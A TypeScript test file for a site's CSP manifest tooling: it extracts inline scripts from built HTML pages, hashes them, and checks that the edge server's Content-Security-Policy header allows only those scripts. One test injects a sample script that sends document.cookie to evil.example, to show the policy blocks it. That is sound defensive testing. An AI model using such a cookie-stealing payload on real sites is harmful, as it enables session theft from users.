import { createHash } from "node:crypto";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { parseCspManifest } from "../../worker/edge/csp-manifest";
import { FILES, testApp } from "../../worker/edge/test-support";
import { MARK_HIDDEN_BANNERS_SCRIPT } from "../../site/src/lib/banner";
import { MARK_CONSENT_ANSWERED_SCRIPT } from "../../site/src/lib/consent";
import { cspManifest, inlineScripts, scriptHash, writeCspManifest } from "./script-hashes";

const hash = scriptHash;

describe("inlineScripts: what a browser would run inline", () => {
  test("inline scripts without src and of a script type, each as written (data blocks, files and empty ones are not scripts)", () => {
    const html =
      '<script src="/app-1.js"></script><script>a()</script><script id="x">a()</script><script type="application/json">{}</script><script type="application/ld+json">{"@type":"Product"}</script><script> </script>';
    expect(inlineScripts(html)).toEqual(["a()", "a()"]);
  });

  test("script types a browser runs, in any case; the text ends at the first </script", () => {
    const html =
      '<SCRIPT TYPE="Text/JavaScript">b()</SCRIPT ><script type=module>c()</script/><script type="text/plain">d()</script><script data-x="a>b" async>e("</scrip")</script>';
    expect(inlineScripts(html)).toEqual(["b()", "c()", 'e("</scrip")']);
  });

  test("a src in another attribute's value does not make a script external; data-src is no src", () => {
    expect(inlineScripts('<script title="src=x">f()</script><script data-src="/x.js">g()</script>')).toEqual(["f()", "g()"]);
  });
});

describe("cspManifest", () => {
  test("distinct hashes, each page with the indexes of its own scripts", () => {
    const manifest = cspManifest([
      ["/index.html", "<script>shared()</script><script>home()</script>"],
      ["/de/parkett.html", "<script>shared()</script><script>shared()</script><script>parkett()</script>"],
      ["/404.html", "<p>no script</p>"],
    ]);
    expect(manifest).toEqual({
      version: 1,
      hashes: [hash("shared()"), hash("home()"), hash("parkett()")],
      pages: { "/index.html": [0, 1], "/de/parkett.html": [0, 2], "/404.html": [] },
    });
    expect(parseCspManifest(JSON.parse(JSON.stringify(manifest)))).toEqual(manifest);
  });

  test("hashes are of the UTF-8 bytes, as browsers compute them", () => {
    expect(scriptHash('t("Größe")')).toBe(createHash("sha256").update(Buffer.from('t("Größe")', "utf8")).digest("base64"));
  });
});

/** A page as the Gatsby build writes it: the first-paint script in <head>, Gatsby's loader and chunk map, JSON-LD, bundles. */
function builtPage(path: string): string {
  return [
    '<!DOCTYPE html><html lang="de" data-info-banner="0badc0de"><head><meta charSet="utf-8"/>',
    `<script>${MARK_CONSENT_ANSWERED_SCRIPT};${MARK_HIDDEN_BANNERS_SCRIPT}</script>`,
    '<script type="application/ld+json">{"@context":"https://schema.org","@type":"Product","name":"Eiche \\u003cb\\u003e"}</script>',
    '</head><body><div id="___gatsby"><main><h1>Eiche</h1><div><p>Beschreibung</p></div></main></div>',
    `<script id="gatsby-script-loader">/*<![CDATA[*/window.pagePath=${JSON.stringify(path)};/*]]>*/</script>`,
    '<script id="gatsby-chunk-mapping">/*<![CDATA[*/window.___chunkMapping="{\\"app\\":[\\"/app-0123.js\\"]}";/*]]>*/</script>',
    '<script src="/webpack-runtime-0123.js" async=""></script><script src="/app-0123.js" async=""></script></body></html>',
  ].join("");
}

describe("the manifest of a build, served by the edge", () => {
  let output: string;
  beforeEach(() => {
    output = mkdtempSync(join(tmpdir(), "csp-manifest-"));
  });
  afterEach(() => rmSync(output, { recursive: true, force: true }));

  const write = (file: string, content: string) => {
    mkdirSync(dirname(join(output, file)), { recursive: true });
    writeFileSync(join(output, file), content);
  };

  test("writeCspManifest lists every HTML file of the output and nothing else", () => {
    write("index.html", builtPage("/"));
    write("de/eiche-100001.html", builtPage("/de/eiche-100001.html"));
    write("app-0123.js", "<script>not html</script>");
    write("page-data/index/page-data.json", "{}");
    const manifest = writeCspManifest(output);
    expect(JSON.parse(readFileSync(join(output, "_csp.json"), "utf8"))).toEqual(manifest);
    expect(Object.keys(manifest.pages).sort()).toEqual(["/de/eiche-100001.html", "/index.html"]);
    // first-paint and chunk map shared, one loader script per page; JSON-LD is no script.
    expect(manifest.hashes).toHaveLength(4);
    expect(manifest.pages["/index.html"]).toHaveLength(3);
  });

  test("a <script> injected into a built page after the build is not allowed by the CSP the edge sends", async () => {
    write("index.html", builtPage("/"));
    writeCspManifest(output);
    const injected = "fetch('https://evil.example/?'+document.cookie)";
    const page = readFileSync(join(output, "index.html"), "utf8").replace("<h1>", `<script>${injected}</script><h1>`);
    const files = { ...FILES, "/DE/index.html": page, "/DE/_csp.json": readFileSync(join(output, "_csp.json"), "utf8") };
    const res = await testApp({ files }).request("http://de.localhost:8787/");
    expect(await res.text()).toContain(injected);
    const scriptSrc = /script-src ([^;]*)/.exec(res.headers.get("content-security-policy") ?? "")![1]!.split(" ");
    expect(scriptSrc).not.toContain(`'sha256-${hash(injected)}'`);
    const built = inlineScripts(builtPage("/"));
    expect(built).toHaveLength(3);
    for (const script of built) expect(scriptSrc).toContain(`'sha256-${hash(script)}'`);
    expect(scriptSrc.filter((source) => source.startsWith("'sha256-"))).toHaveLength(3);
  });
});
